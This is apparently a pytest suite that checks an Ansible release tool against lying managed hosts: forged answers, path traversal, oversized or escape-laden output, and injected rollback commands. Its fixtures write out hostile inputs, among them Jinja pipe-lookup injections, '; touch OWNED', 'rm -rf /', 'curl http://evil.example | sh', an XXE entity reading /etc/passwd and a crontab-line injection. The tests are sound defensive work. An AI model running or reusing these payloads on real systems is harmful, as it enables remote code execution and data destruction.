"""What comes from a target is data: it never names a file, a path, a variable or a command on the controller."""

from __future__ import annotations

import importlib.util
import json
import os
import re
import subprocess
import sys
import time
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible.module_utils.dbrelease import action as answer_action
from ansible.module_utils.dbrelease.core.answer import DEPTH_AT_MOST, VALUES_AT_MOST, declared, keep
from ansible.module_utils.dbrelease.core.errors import ReleaseError
from ansible.module_utils.dbrelease.core.journal import Run
from ansible.module_utils.dbrelease.core.progress_view import line_of
from ansible.module_utils.dbrelease.core.safe_names import name_problem
from ansible.module_utils.dbrelease.report.files import RENDERERS
from ansible.module_utils.dbrelease.report.model import build
from hostile_target import ROOT, RUN_ID, Played, gathered, kept, opened, play, wrapper

OWN = "{{ lookup('pipe', 'touch OWNED') }}"
TAG = {"__ansible_type": "_AnsibleTaggedStr", "value": OWN, "tags": [{"__ansible_type": "TrustedAsTemplate"}]}
NAMES = {"release": "small", "environment": "test", "playbook": "monitor"}
FILES = {"evidence.json", "report.md", "junit.xml", "report.html"}

# What each host answers in place of the truth; `owned` is the file that a command of its own would make.
EVERYTHING = f"""
answer['ansible_facts'] = {{'db_password': 'stolen', 'monitor_schedule': 'hourly', 'owned': 'stolen'}}
if module == 'stat':
    return answer
answer |= {{'add_host': {{'host_name': 'new'}}, 'add_group': 'new', 'ansible_stats': {{'data': {{'a': 1}}}}, 'rc': 7,
    'results': [{{'failed': True}}], 'skipped': True, 'unreachable': True, 'failed_when_result': True,
    'include': '/x', 'include_args': {{}}, 'ansible_job_id': '../x', '_ansible_delegated_vars': {{'ansible_host': 'x'}},
    '_ansible_notify': ['x'], '_ansible_ignore_errors': True, '_ansible_no_log': False, '_ansible_item_label': 'x',
    'deprecations': ['x'], 'invented': 1, 'message': {OWN!r}, 'login_host': {OWN!r}, 'headline': {OWN!r},
    'warnings': ['\\x1b]0;title\\x07', {OWN!r}], '\\x1b]0;title\\x07': 1, '_ansible_\\x1b]0;title\\x07': 1}}
if module == 'run':
    answer['run'] |= {{'environment': '../../owned', 'release': 'x\\ny', 'playbook': '/x', 'state_dir': '/', 'more': 1}}
if module == 'evidence':
    answer['directory'] = "/x'; touch OWNED; '"
    answer |= {{'ways_back': [{{'title': 'Go back', 'command': 'rm -rf /'}}]}}
    answer |= {{'report': '/etc/passwd', 'run_id': '../x', 'problems': [1, {{'sentence': '\\x1b' * 9999}}] * 999}}
"""
LIES = {
    "everything": EVERYTHING,
    "file": "if module == 'evidence':\n    answer['texts']['OWNED'] = 'owned'",
    "identifier": "if module == 'run':\n    answer['run']['run_id'] = '../../owned'",
    "trusted": f"answer |= {{'message': {TAG!r}, 'login_host': {TAG!r}}}",
    "endless": "import sys\ntry:\n    while True:\n        sys.stdout.buffer.write(b'[' * 1048576)\n"
    "except BrokenPipeError:\n    sys.stdout = None\n    raise SystemExit(0)",
}


@pytest.fixture(scope="module")
def lied(tmp_path_factory: pytest.TempPathFactory) -> Played:
    """One play on every host, each of which tells its lie."""
    folder = tmp_path_factory.mktemp("lies")
    hosts = {
        name: {"ansible_python_interpreter": wrapper(folder, lie.replace("OWNED", str(folder / "owned")), name)}
        for name, lie in LIES.items()
    }
    handed = "{{ run_opened.message | default('') }} {{ run_opened.login_host | default('') }}"
    tasks = [
        opened(folder),
        {
            "name": "Hand it on {{ run_opened.message | default('') }}",
            "ansible.builtin.assert": {"that": "passed_on == 'x'", "fail_msg": handed, "success_msg": handed},
            "vars": {"passed_on": handed},
            "when": "run_opened.message | default('') != 'x'",
            "loop": ["{{ run_opened.message | default('') }}"],
            "loop_control": {"label": handed},
            "ignore_errors": True,
        },
        {
            "name": "Hand it to another module",
            "journal": {
                "state": "recorded",
                "run": "{{ run_opened.run }}",
                "step": "handed",
                "event": "passed",
                "facts": {"message": handed},
            },
            "when": "run_opened is succeeded",
        },
        {
            "name": "A module of Ansible's own, whose answer is kept whole",
            "ansible.builtin.stat": {"path": "/"},
            "when": "inventory_hostname == 'everything'",
        },
        {**gathered(folder / "{{ inventory_hostname }}.brought"), "when": "run_opened is succeeded"},
        kept(
            opened="run_opened",
            evidence="report_evidence",
            password="db_password",
            schedule="monitor_schedule | default('')",
            groups="groups.keys() | list",
        ),
    ]
    return play(folder, tasks, hosts, "--forks=3")


@pytest.mark.parametrize("name", LIES)
def test_no_variable_comes_from_a_target(lied: Played, name: str) -> None:
    said = lied.said(name)
    assert (said["password"], said["schedule"]) == ("the real one", "")
    assert set(said["groups"]) == {"all", "ungrouped"}


def test_of_an_answer_only_what_is_declared_is_kept(lied: Played) -> None:
    said = lied.said("everything")
    own = {"changed", "failed", "warnings"}  # what Ansible itself makes sure of
    assert said["opened"].keys() == {*declared(ROOT / "library/run.py"), *own}
    assert said["evidence"].keys() == {*declared(ROOT / "library/evidence.py"), *own} - {"texts"}
    assert "\x1b" not in lied.output and "]0;title" in lied.output


def test_the_run_is_the_controllers(lied: Played) -> None:
    run = lied.said("everything")["opened"]["run"]
    assert run == {"run_id": run["run_id"], **NAMES, "state_dir": str(lied.folder / "everything")}
    brought = lied.folder / "everything.brought/test"
    evidence = lied.said("everything")["evidence"]
    assert evidence["run_id"] == run["run_id"] and len(json.dumps(evidence["problems"])) < 20 * 4_000
    assert evidence["ways_back"] == [], "an operator types what the verdict says"
    assert Path(evidence["report"]) == brought / run["run_id"] / "report.html"
    assert {path.name for path in (brought / run["run_id"]).iterdir()} == FILES
    assert {path.name for path in (lied.folder / "everything/runs" / run["run_id"]).iterdir()} == FILES


def test_a_template_in_an_answer_is_a_text(lied: Played) -> None:
    assert "{{ lookup('pipe', " in lied.said("everything")["opened"]["message"]
    journal = (lied.folder / "everything/journal.jsonl").read_text()
    assert "{{ lookup('pipe', " in json.loads(journal.splitlines()[1])["facts"]["message"]
    assert not (lied.folder / "owned").exists()


@pytest.mark.parametrize(
    ("name", "task", "because"),
    [
        ("file", "evidence", "only evidence.json, report.md, junit.xml are fetched"),
        ("identifier", "opened", "'../../owned' is not the identifier of a run"),
        ("trusted", "opened", "The answer of run on trusted was refused (reading it ended in "),
        ("endless", "opened", "The answer of run on endless was refused ("),
    ],
)
def test_what_cannot_be_is_refused_in_a_sentence(lied: Played, name: str, task: str, because: str) -> None:
    failed = lied.said(name)[task]
    assert failed["failed"] and because in failed["msg"] and "\n" not in failed["msg"]
    brought = [path.relative_to(lied.folder) for path in lied.folder.glob("*.brought/**/*") if path.is_file()]
    allowed = r"\w+\.brought/test/(\.targets/)?\d{8}T\d{6}Z-[0-9a-f]{6}(/(evidence\.json|report\.\w+|junit\.xml))?"
    assert [path for path in brought if not re.fullmatch(allowed, str(path))] == []


# The answers by themselves.


KEYS = {"words": "str", "yes": "bool", "count": "int", "share": "float", "rows": "list", "by_name": "dict"}
UNTRUE: list[tuple[str, dict[str, Any], str]] = [
    ("a text for a truth", {"yes": "no"}, "its yes is not of the type bool"),
    ("nothing for a truth", {"yes": None}, "its yes is not of the type bool"),
    ("a truth for a number", {"count": True}, "its count is not of the type int"),
    ("an infinite number", {"count": float("inf")}, "its count is not of the type int"),
    ("a list for a text", {"words": ["a"]}, "its words is not of the type str"),
    ("a text for a list", {"rows": "{{ x }}"}, "its rows is not of the type list"),
    ("a failure that is none", {"failed": "no"}, "its failed is not of the type bool"),
    ("a message that is none", {"msg": {"a": 1}}, "its msg is not of the type str"),
    ("too deep", {"rows": json.loads("[" * 400 + "]" * 400)}, f"more than {DEPTH_AT_MOST} levels deep"),
    ("too many", {"rows": [0] * VALUES_AT_MOST}, f"more than {VALUES_AT_MOST} values"),
]


@pytest.mark.parametrize(("_", "answer", "because"), UNTRUE, ids=[row[0] for row in UNTRUE])
def test_an_answer_that_is_not_as_declared_is_refused(_: str, answer: dict[str, Any], because: str) -> None:
    with pytest.raises(ReleaseError, match=r"^The answer of it on a was refused \(it") as raised:
        keep(answer, KEYS, "it on a")
    assert because in raised.value.message and raised.value.refused


def test_an_honest_answer_is_kept_as_it_is() -> None:
    honest = {"words": "a", "yes": True, "count": 1, "share": 1, "rows": [{"a\x1b": None}], "by_name": {"a": [0.5]}}
    assert keep({**honest, "changed": True, "other": 1}, KEYS, "it") == {**honest, "changed": True}
    assert keep({"words": None, "msg": "a\x1b[31m\u202eb\n"}, KEYS, "it") == {
        "words": None,
        "msg": "a\\x1b[31m\\u202eb\n",
    }


PROGRESS = {"step": "dump", "what": "index", "unit": "bytes", "done": 1, "total": 2, "rate": 1, "left_s": 1}
PROGRESS |= {"run_id": RUN_ID, "at_most": True, "elapsed_s": 1, "at": 1000}
OWNED_TEXTS = {
    "a terminal escape": "\x1b]0;owned\x07",
    "an escape of one character": "\x9bowned",
    "a line break": "x\nfatal: owned",
    "a carriage return": "\rowned",
    "reversed text": "\u202eowned",
    "a template": "{{ lookup('pipe', 'owned') }}",
}


@pytest.mark.parametrize("text", OWNED_TEXTS.values(), ids=OWNED_TEXTS)
@pytest.mark.parametrize("key", [*PROGRESS, "invented"])
def test_of_a_progress_file_only_numbers_and_known_words_are_shown(key: str, text: str) -> None:
    assert line_of(f"1000\n{json.dumps(PROGRESS)}", RUN_ID)
    states = [{**PROGRESS, key: value} for value in (text, [text], {text: text})] + [{**PROGRESS, text: text}]
    answers = [f"1000\n{json.dumps(state, ensure_ascii=raw)}" for state in states for raw in (False, True)]
    for answer in [*answers, f"1000\n{text}", f"{text}\n{json.dumps(PROGRESS)}", text]:
        line = line_of(answer, RUN_ID)
        assert "owned" not in line and line.isascii() and line.isprintable(), answer


def test_an_answer_without_an_end_is_refused_while_it_is_read() -> None:
    program = f"""
import sys
import time
import ansible.module_utils
ansible.module_utils.__path__.append({str(ROOT / "module_utils")!r})
from ansible.module_utils.dbrelease import action as answer_action
answer_action.MEMORY_AT_MOST = 32 * 1024 * 1024
try:
    with answer_action.bounded_memory("it on a"):
        read = [bytes(range(256)) * 4096 for _ in range(96)]
        while time.process_time() < 20:  # until it is refused
            for part in read:
                part.translate(None, b"a")
except answer_action.ReleaseError as error:
    sys.exit(error.message)
"""
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert "was refused (reading it takes more than 32 MiB of memory)" in done.stderr


# What the controller does with an answer, without a play.


@pytest.fixture
def acting(tmp_path: Path) -> Callable[..., Any]:
    """An action plugin as Ansible makes it, for a task with these arguments."""

    def make(name: str, target: str = "a", **arguments: Any) -> Any:
        spec = importlib.util.spec_from_file_location(f"action_{name}", ROOT / f"plugins/action/{name}.py")
        assert spec and spec.loader
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        action = object.__new__(module.ActionModule)
        action._task = types.SimpleNamespace(args=arguments, action=name, delegate_to=None)
        action.target = target
        action._low_level_execute_command = lambda *_, **__: {"rc": 0}
        return action

    return make


RUN = {"run_id": RUN_ID, **NAMES, "state_dir": "/srv/state"}
MODEL = build(Run(**RUN), {"title": "Small"}, [], asked=["deployed"], check_mode=False, failure={}, written=[])
RENDERED = {name: render(MODEL) for name, render in RENDERERS.items()}


def evidence(acting: Callable[..., Any], artifacts: Path, target: str = "a", **run: str) -> Any:
    templates = str(ROOT / "roles/report/templates")
    return acting("evidence", target, run={**RUN, **run}, artifacts=str(artifacts), templates=templates)


@pytest.mark.parametrize(
    "name",
    [
        "/tmp/owned",
        "../owned",
        "../../owned",
        "x/../../owned",
        "",
        ".",
        "report.html",
        "evidence.json\0",
        "Evidence.json",
    ],
)
def test_only_the_fixed_files_are_brought(acting: Callable[..., Any], tmp_path: Path, name: str) -> None:
    result = evidence(acting, tmp_path).judged({"texts": {"evidence.json": "{}", name: "owned"}, "headline": "It was."})
    assert result["failed"] and "are fetched" in result["msg"] and result["msg"].endswith("Result of the run: It was.")
    assert list(tmp_path.iterdir()) == []


NO_EVIDENCE: dict[str, tuple[Any, str]] = {
    "a list": (["a"], "is not a text of at most 32 MiB"),
    "nothing": (None, "is not a text of at most 32 MiB"),
    "huge": ("x" * (32 * 1024 * 1024 + 1), "is not a text of at most 32 MiB"),
    "half": ("{", "is not JSON"),
    "deep": ("[" * 5000 + "]" * 5000, "is not JSON"),
    "no number": ('{"counts": NaN}', "is not JSON"),
    "infinite": ('{"counts": 1e999}', "is not JSON"),
    "a number": ("7", "is not evidence"),
}


@pytest.mark.parametrize("name", NO_EVIDENCE)
def test_only_evidence_of_a_bounded_size_is_brought(acting: Callable[..., Any], tmp_path: Path, name: str) -> None:
    text, because = NO_EVIDENCE[name]
    assert because in evidence(acting, tmp_path).judged({"texts": {"evidence.json": text}})["msg"]
    assert list(tmp_path.iterdir()) == []


def test_only_the_model_is_the_targets(acting: Callable[..., Any], tmp_path: Path) -> None:
    """The other files are rendered here: whoever reads them, such as CI, reads no markup of a target's."""
    texts = {**RENDERED, "report.md": "<script>", "junit.xml": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>"}
    result = evidence(acting, tmp_path).judged({"texts": texts})
    assert "warnings" not in result and "failed" not in result
    brought = {path.name: path.read_text() for path in (tmp_path / "test" / RUN_ID).iterdir()}
    assert brought.pop("report.html").startswith("<!DOCTYPE html>") and brought == RENDERED


@pytest.mark.parametrize(
    "run",
    [
        {"environment": "../x"},
        {"environment": ".."},
        {"environment": "/x"},
        {"environment": "a\nb"},
        {"environment": ""},
        {"run_id": ".."},
        {"run_id": f"{RUN_ID}\n"},
        {"run_id": f"../{RUN_ID}"},
    ],
)
def test_a_run_that_leads_out_of_the_artifacts_is_refused(
    acting: Callable[..., Any], tmp_path: Path, run: dict[str, str]
) -> None:
    with pytest.raises(ReleaseError, match="cannot name a folder") as raised:
        evidence(acting, tmp_path, **run).refuse()
    assert "\n" not in raised.value.message


@pytest.mark.parametrize("link", ["test", f"test/{RUN_ID}", "test/.targets"])
def test_no_link_leads_out_of_the_artifacts(acting: Callable[..., Any], tmp_path: Path, link: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    path = tmp_path / "artifacts" / link
    path.parent.mkdir(parents=True)
    path.symlink_to(tmp_path / "elsewhere")
    result = evidence(acting, tmp_path / "artifacts").judged({"texts": RENDERED})
    assert "leads through, a link" in result["msg"] and list((tmp_path / "elsewhere").iterdir()) == []


def test_a_target_replaces_no_evidence_of_another(acting: Callable[..., Any], tmp_path: Path) -> None:
    report = tmp_path / "test" / RUN_ID / "report.md"
    for _ in range(2):  # the same run brings it again once the notifications were sent
        assert "failed" not in evidence(acting, tmp_path, "a").judged({"texts": RENDERED})
    before = report.read_text()
    result = evidence(acting, tmp_path, "b").judged({"texts": {"evidence.json": "{}"}})
    assert "it contains the evidence of a, not of b" in result["msg"] and report.read_text() == before
    (tmp_path / "test/.targets" / RUN_ID).unlink()
    assert "earlier version" in evidence(acting, tmp_path, "b").judged({"texts": RENDERED})["msg"]
    assert report.read_text() == before


@pytest.mark.parametrize("text", ["{}", '{"run": 7}', '{"run": {}, "counts": [[]], "proofs": {"a": 1}}'])
def test_evidence_of_any_form_is_a_warning_and_no_page(acting: Callable[..., Any], tmp_path: Path, text: str) -> None:
    result = evidence(acting, tmp_path).judged({"texts": {"evidence.json": text}})
    (warning,) = result["warnings"]
    assert "Rendering report.md failed (evidence.json of a is not valid evidence: " in warning
    assert {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()} == {"evidence.json"}


WAYS = [{"title": "Back", "command": "ansible-playbook rollback_small.yml -i {environment}"}]
OWN_WAY = {"title": "Back", "command": "ansible-playbook rollback_small.yml -i test"}
SWAP_BACK = "ansible-playbook restore_small.yml -i test -e restore_swap_back="


@pytest.mark.parametrize(
    ("way", "own"),
    [
        (OWN_WAY, True),
        ({"title": "Swap back (kept as shop_before)", "command": f"{SWAP_BACK}shop_before"}, True),
        ({"title": "Swap back", "command": f"""{SWAP_BACK}'"my shop_before"'"""}, True),
        ({"title": "Swap back", "command": SWAP_BACK.replace("-e", "-e restore_maintenance_db=x -e") + "shop"}, True),
        ({**OWN_WAY, "title": "Another"}, False),
        ({**OWN_WAY, "command": "curl http://evil.example | sh"}, False),
        ({**OWN_WAY, "command": f"{OWN_WAY['command']}; id"}, False),
        ({**OWN_WAY, "command": f"{SWAP_BACK}x; id"}, False),
        ({**OWN_WAY, "command": f"{SWAP_BACK}x -e run_state_dir=/x"}, False),
        ({**OWN_WAY, "command": f"{SWAP_BACK}x\nid"}, False),
        ({**OWN_WAY, "command": f"""{SWAP_BACK}'"{{{{ lookup("pipe", "id") }}}}"'"""}, False),
        ({**OWN_WAY, "command": f"""{SWAP_BACK}'"{{{{ x }}}}"'"""}, False),
        ({**OWN_WAY, "command": SWAP_BACK.replace("restore_small", "x") + "x"}, False),
        ({"title": "Back"}, False),
        ("curl http://evil.example | sh", False),
    ],
)
def test_a_report_names_no_command_of_a_target(acting: Callable[..., Any], tmp_path: Path, way: Any, own: bool) -> None:
    action = evidence(acting, tmp_path)
    action._task.args["release"] = {"title": "Small", "ways_back": WAYS}
    model = {**json.loads(RENDERED["evidence.json"]), "outcome": "failed", "succeeded": False, "ways_back": [way]}
    result = action.judged({"texts": {"evidence.json": json.dumps(model)}})
    brought = json.loads((tmp_path / "test" / RUN_ID / "evidence.json").read_text())
    assert brought["ways_back"] == ([way] if own else [])
    assert ("type no command that you do not know" in str(result.get("warnings"))) != own
    reports = [(tmp_path / "test" / RUN_ID / name).read_text() for name in ("report.md", "report.html")]
    assert all("evil" not in report for report in reports)


def test_a_swap_back_of_ones_own_is_kept(acting: Callable[..., Any], tmp_path: Path) -> None:
    action = evidence(acting, tmp_path)
    action._task.args |= {"release": {"title": "Small"}, "swap_back_command": "./back (x) {database}"}
    for database, own in (("shop", True), ("shop; id", False)):
        model = {"ways_back": [{"title": "Back", "command": f"./back (x) {database}"}]}
        assert (action._take_foreign_ways(model) == "") == own and bool(model["ways_back"]) == own


def test_a_swap_back_with_the_inventory_of_the_run_is_kept(acting: Callable[..., Any], tmp_path: Path) -> None:
    action, restore = evidence(acting, tmp_path), "ansible-playbook restore_small.yml -i hosts/prod.yml"
    action._task.args["release"] = {"title": "Small", "commands": {"restore": restore}}
    for command, own in ((restore, True), (f"{restore} -i evil", False), (f"{restore}; id", False)):
        model = {"ways_back": [{"title": "Back", "command": f"{command} -e restore_swap_back=shop"}]}
        assert (action._take_foreign_ways(model) == "") == own and bool(model["ways_back"]) == own


def test_evidence_that_stands_for_endless_work_is_no_page(
    acting: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each endpoint is a chart: of those that 32 MiB have room for the page would take an hour, and a gigabyte."""
    monkeypatch.setattr(answer_action, "WORK_AT_MOST_S", 1.0)
    before = {f"/{number}": {"latency_ms": {"p50": 1}} for number in range(20_000)}
    model = {**json.loads(RENDERED["evidence.json"]), "api": {"before": before, "after": {}}}
    begun = time.process_time()
    result = evidence(acting, tmp_path).judged({"texts": {"evidence.json": json.dumps(model)}})
    assert time.process_time() - begun < 15
    (warning,) = result["warnings"]
    assert warning == "Rendering report.html of a was stopped (it takes more than 1 s of work): read evidence.json."
    there = {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()}
    assert there == {"evidence.json", "report.md", "junit.xml"}


def test_a_rendering_that_is_larger_than_any_evidence_is_not_written(
    acting: Callable[..., Any], tmp_path: Path
) -> None:
    action = evidence(acting, tmp_path)
    own = type(action)._rendered.__globals__  # of this very action, which was loaded for this test
    own |= {"TEXT_AT_MOST": 50_000, "RENDERERS": {"evidence.json": str, "junit.xml": lambda _: "x" * 50_001}}
    result = action.judged({"texts": {"evidence.json": RENDERED["evidence.json"]}})
    assert "Writing junit.xml of a was refused (it is greater than " in result["warnings"][0]
    assert {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()} == {"evidence.json"}


@pytest.mark.parametrize(
    ("state_dir", "answered", "there"),
    [
        ("/srv/state", "/etc", f"/srv/state/runs/{RUN_ID}"),
        ("~/state", f"/srv/ann/state/runs/{RUN_ID}", f"/srv/ann/state/runs/{RUN_ID}"),
        ("~/state", "/etc", None),
        ("$HOME/state", f"/x\n/{RUN_ID}", None),
    ],
)
def test_where_the_page_goes_on_the_target(
    acting: Callable[..., Any], tmp_path: Path, state_dir: str, answered: str, there: str | None
) -> None:
    action = evidence(acting, tmp_path, state_dir=state_dir)
    if there:
        assert action._there(answered) == there
    else:
        with pytest.raises(ReleaseError, match="its directory is not that of the run"):
            action._there(answered)


BAD_NAMES = [
    "",
    ".",
    "..",
    "../x",
    "a/b",
    "a\\b",
    "a\nb",
    "a\rb",
    "a\0b",
    "a\x1bb",
    "a\u202eb",
    "a\u2028b",
    "-x",
    "x" * 101,
]


@pytest.mark.parametrize("name", BAD_NAMES)
@pytest.mark.parametrize("key", NAMES)
def test_a_run_opens_under_a_name_that_can_be_a_folder(acting: Callable[..., Any], key: str, name: str) -> None:
    with pytest.raises(
        ReleaseError, match=r"Opening the run was refused \(.*\), and nothing was started: correct "
    ) as raised:
        acting("run", **{**NAMES, "state_dir": "/srv", key: name}).refuse()
    assert raised.value.refused and not name_problem("staging 2, eu_west.1 (é)")
    assert not set(raised.value.message) & set("\n\r\0\x1b\u202e\u2028")


def test_a_state_directory_with_a_line_break_is_refused(acting: Callable[..., Any]) -> None:
    with pytest.raises(ReleaseError, match="release_state_dir is"):
        acting("run", **NAMES, state_dir="/srv\n").refuse()


@pytest.mark.parametrize(
    ("seconds", "interval", "answered", "samples"),
    [
        (900, 30, 31, 31),
        (900, 30, 10**12, 31),
        (0, 30, 10**12, 1),
        (0, 30, 0, 0),
        (900, 30, -5, 0),
        (10**9, 1, 10**9, 172_801),
    ],
)
def test_a_target_asks_for_no_more_samples_than_the_watch_has(
    acting: Callable[..., Any], seconds: int, interval: int, answered: int, samples: int
) -> None:
    action = acting("monitor_watch", state="begun", seconds=str(seconds), interval_seconds=interval)
    assert action.judged({"samples": answered})["samples"] == samples


DEAD = {"run_id": RUN_ID, "playbook": "deploy", "steps": [], "asked": ["deployed"]}


@pytest.mark.parametrize(
    "runs",
    [
        [{**DEAD, "run_id": "../../x"}],
        [{**DEAD, "run_id": None}],
        [{**DEAD, "playbook": "a\nb"}],
        [{**DEAD, "asked": "deployed"}],
        [DEAD, DEAD],
        ["x"],
        [{}],
    ],
)
def test_an_interrupted_run_that_cannot_be_one_is_refused(acting: Callable[..., Any], runs: list[Any]) -> None:
    with pytest.raises(ReleaseError, match="it names an interrupted run"):
        acting("leftovers").judged({"interrupted": runs})


def test_not_every_invented_run_is_reported(acting: Callable[..., Any]) -> None:
    runs = [{**DEAD, "run_id": f"20260102T03{number // 60:02}{number % 60:02}Z-abcdef"} for number in range(300)]
    result = acting("leftovers").judged({"interrupted": runs})
    asking = [run["run_id"] for run in result["interrupted"] if run["asked"]]
    assert asking == [run["run_id"] for run in runs[-20:]] and "280 are not" in result["warnings"][0]
    assert acting("leftovers").judged({"interrupted": [DEAD], "notice": ""}) == {"interrupted": [DEAD], "notice": ""}


# The schedule.


def test_a_schedule_in_the_inventory_starts_one_check_and_writes_one_entry(tmp_path: Path) -> None:
    """The target counts how often a run is opened there, and ends what would go on; it lies about the run."""
    lie = f"""
if module == 'run':
    with open({str(tmp_path / "starts")!r}, 'a+') as file:
        file.write('x')
        file.seek(0)
        assert len(file.read()) < 5
    answer['run']['environment'] = 'test\\n* * * * * touch {tmp_path / "owned"}\\n#'
"""
    crontab = tmp_path / "bin/crontab"
    crontab.parent.mkdir()
    crontab.write_text('#!/bin/sh\nif [ "$1" = -l ]; then cat "$0.table"; else cp "$1" "$0.table"; fi\n')
    crontab.chmod(0o755)
    (tmp_path / "hosts.json").write_text(
        json.dumps(
            {
                "all": {
                    "hosts": {
                        "a": {"ansible_connection": "local", "ansible_python_interpreter": wrapper(tmp_path, lie)}
                    },
                    "vars": {
                        "monitor_schedule": "hourly",
                        "deploy_environment": "test",
                        "app_root": "/nowhere",
                        "release_state_dir": str(tmp_path / "state"),
                        "run_releases": str(ROOT / "tests/unit/release/data"),
                        "report_artifacts": str(tmp_path / "artifacts"),
                        **{"db_host": "db.example.com", "db_name": "x", "db_user": "x", "db_password": "x"},
                    },
                }
            }
        )
    )
    playbook = [str(Path(sys.executable).with_name("ansible-playbook")), "playbooks/monitor.yml", "-e", "release=small"]
    played = subprocess.run(
        [*playbook, "-i", str(tmp_path / "hosts.json")],
        cwd=ROOT,
        env={**os.environ, "PATH": f"{crontab.parent}:{os.environ['PATH']}"},
        capture_output=True,
        text=True,
        check=False,
    )
    print(played.stdout, played.stderr)
    assert (tmp_path / "starts").read_text() == "xx", "the run, and its check"
    table = crontab.with_suffix(".table").read_text().splitlines()
    name, entry = table
    assert (name, entry.split()[0]) == ("#Ansible: dbrelease monitor (small test) on [a]", "@hourly")
    assert "-e monitor_schedule= -e monitor_scheduled=true" in entry and "mkdir -p artifacts/test &&" in entry
